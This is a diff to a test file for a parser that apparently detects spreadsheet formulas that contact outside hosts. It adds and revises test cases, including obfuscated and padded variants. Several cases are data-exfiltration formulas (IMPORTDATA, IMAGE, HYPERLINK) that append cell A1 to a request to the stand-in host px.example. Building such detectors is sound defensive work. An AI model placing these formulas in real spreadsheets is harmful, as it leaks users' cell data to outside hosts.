@@ -33,6 +33,8 @@ def read(text: str) -> list[tuple[str, str]]:
         ('=HYPERLINK("https://px.example/?a=1&" & A1,"Q")', SENDS),
         ('"=IMAGE(""https://px.example/""&A1)"', SENDS),
         ('- IMAGE ("https://px.example/o.png")', SHOWS),
+        ('=\nIMPORTDATA(\n"https://px.example/"\n&A1)', SENDS),
+        ('var a="x"+image("https://px.example/a.png"),b=' + "1;" * 2000, SHOWS),
     ],
 )
 def test_a_formula_that_reaches_out_names_its_host(text: str, kind: str) -> None:
@@ -75,7 +77,9 @@ def test_a_long_text_of_formulas_is_read_in_linear_time(text: str) -> None:
     assert takes_at_most_times(16, lambda: read(long), lambda: read(short), 0.05)
 
 
-def test_a_formula_behind_many_others_is_found() -> None:
-    evil = '=IMPORTDATA("https://px.example/"&A1)'
-    for text in ("IMAGE(\n", '=IMAGE("a")\n', '=IMAGE("a"),', "x = image(1), "):
-        assert read(text * 2000 + "," + evil) == [(SENDS, "px.example")]
+def test_formulas_behind_many_others_are_found_or_count_as_unreadable() -> None:
+    evil = '=IMPORTDATA("https://px.example/")\n'
+    for other in ("IMAGE(\n", '=IMAGE("a")\n'):
+        assert read(other * 999 + evil) == [(SHOWS, "px.example")]
+        assert read(other * 1000 + evil) == [("unreadable", "")]
+    assert read("=IMPORTDATA(" + " " * 2000 + '"https://px.example/")') == [("unreadable", "")]
